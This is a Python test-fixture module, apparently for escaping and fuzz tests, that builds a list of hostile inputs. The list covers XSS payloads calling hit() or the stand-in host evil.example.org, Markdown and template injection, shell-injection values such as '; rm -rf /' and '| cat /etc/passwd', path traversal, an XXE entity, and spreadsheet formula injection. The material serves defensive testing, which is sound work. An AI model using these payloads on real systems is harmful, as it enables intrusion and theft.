"""Texts that try to break out of their context in every output. What runs calls ``hit()``; what loads is at evil.example.org."""

# ruff: noqa: E501  # tables of texts
from collections.abc import Iterator

_ELEMENTS = (
    "<script>hit()</script>",
    "<script src=//evil.example.org/x.js></script>",
    "<img src=x onerror=hit()>",
    "<img src=//evil.example.org/x.png>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:hit()></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=//evil.example.org/x.swf>",
    "<link rel=stylesheet href=//evil.example.org/x.css>",
    "<style>@import '//evil.example.org/x.css'</style>",
    "<base href=//evil.example.org/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<form action=javascript:hit()><button autofocus>x</button></form>",
    "<details open ontoggle=hit()>x</details>",
    "<video><source onerror=hit()></video>",
    "<body onload=hit()>",
    "<input autofocus onfocus=hit()>",
    "<a href=javascript:hit()>x</a>",
    "<math><mtext><table><mglyph><style><img src onerror=hit()></style></mglyph></table></mtext></math>",
    "<template><script>hit()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[<img src=x onerror=hit()>]]>",
)
_OPENINGS = (
    "", '"', "'", '">', "'>", "</title>", "</script>", "</style>", "</textarea>", "-->", "]]>", "</a>", "<a title='", "&quot;>", "\\\">",
    "`", "<", "</p>",
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover="hit()" x="', "' onmouseover='hit()' x='", '" autofocus onfocus="hit()', '" style="background:url(//evil.example.org/x)',
    '" href="javascript:hit()', '"><a href="javascript:hit()" id="go', "x onclick=hit()", '" srcdoc="<script>hit()</script>',
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:hit())",
    "[x](JaVaScRiPt:hit())",
    "[x](&#106;avascript:hit())",
    "[x](java&#x0A;script:hit())",
    "[x](data:text/html,<script>hit()</script>)",
    "[x](vbscript:hit())",
    "[x](//evil.example.org)",
    "[x](https://evil.example.org 'a\" onmouseover=\"hit()')",
    "![x](https://evil.example.org/x.png)",
    "![x](javascript:hit())",
    '![" onerror="hit()](images/x.png)',
    "<javascript:hit()>",
    "[x]: javascript:hit()\n\n[x]",
    "[^1]\n\n[^1]: <img src=x onerror=hit()>",
    "```\n</code></pre><script>hit()</script>\n```",
    "`</code><img src=x onerror=hit()>`",
    "# <img src=x onerror=hit()>",
    "| a |\n| - |\n| <img src=x onerror=hit()> |",
    "term\n:   <img src=x onerror=hit()>",
    "**<img src=x onerror=hit()>**",
    "x {: onclick=hit() }",
    "# x {#a onclick=hit()}",
    '[[partner:x" onclick="hit()]]',
    "*[x]: <img src=x onerror=hit()>\n\nx",
    "[TOC]\n\n# </h1><script>hit()</script>",
)
_TEMPLATES = (
    "{{ 7 * 7 }}", "{% for x in y %}", "{{ config }}", "{# x #}", "{{ ''.__class__.__mro__ }}", "{{ page.language.tag }}", "${7*7}", "<%= 7*7 %>",
    "#{7*7}", "%s %d %(name)s {0} {name}", "$(id)", "`id`", "; rm -rf /", "| cat /etc/passwd", "../../etc/passwd", "..\\..\\x", "file:///etc/passwd",
)  # fmt: skip
_CELLS = (
    "=1+1", "=HYPERLINK(\"http://evil.example.org\")", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\uff1d1+1", "'=1+1", "''", '"=1+1"', ";=1+1", ",=1",
)  # fmt: skip
_LINES = (
    "END:VCARD", "BEGIN:VEVENT", "x\\nEND:VCALENDAR", "a;b,c:d\\e", "ATTACH:http://evil.example.org", "TEL:+1555", "a\\;b", "\\\\", "=0D=0AEND:VCARD",
    "</rss>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "&y;", "&lt;script&gt;hit()&lt;/script&gt;", "&amp;amp;",
    "&#60;script&#62;", "%3Cscript%3Ehit()%3C/script%3E", "\\u003cscript\\u003ehit()", "\\x3cscript\\x3e", "{\"a\":1}", "]}", "\"}],\"x\":[{\"", "null", "true",
    "__proto__", "constructor", "toString", "hasOwnProperty", "NaN", "Infinity", "-0", "1e999", "0x41", "1_000",
)  # fmt: skip
_LETTERS = (
    "\u202eevil\u202c", "\u2066x\u2069", "\u200bx", "\ufeffx", "a\u0301" * 40, "\u05d0\u05d1 555 \u05d2", "\u0645\u0631\u062d\u0628\u0627 (555) 555-0114",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1fa\U0001f1f8", "\u0130\u0131\u017f", "\ufb03", "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "\u2028x", "\u0085x", "\x7fx", "\x1b[31mx", "\u0e01\u0e33" * 20, "\u1100\u1161\u11a8", "\U00010330", "\ufffd", "\u00a0x\u00a0", "\u3000x",
    "\u0600", "\U000e0001", "x\u20dd" * 10, "\u1680", "\u180e", "W" * 110, "\u4e2d" * 110, "0" * 110, "x " * 55,
)  # fmt: skip


def texts() -> tuple[str, ...]:
    """Return all hostile texts without duplicates."""
    return tuple(dict.fromkeys(_texts()))


def _texts() -> Iterator[str]:
    for number, element in enumerate(_ELEMENTS):
        for opening in (_OPENINGS[0], *(_OPENINGS[(number + step) % len(_OPENINGS)] for step in (1, 3, 5, 7, 11, 13))):
            yield f"{opening}{element}"
    yield from (f"{opening}x" for opening in _OPENINGS if opening)
    for group in (_ATTRIBUTES, _MARKDOWN, _TEMPLATES, _CELLS, _LINES, _LETTERS):
        yield from group
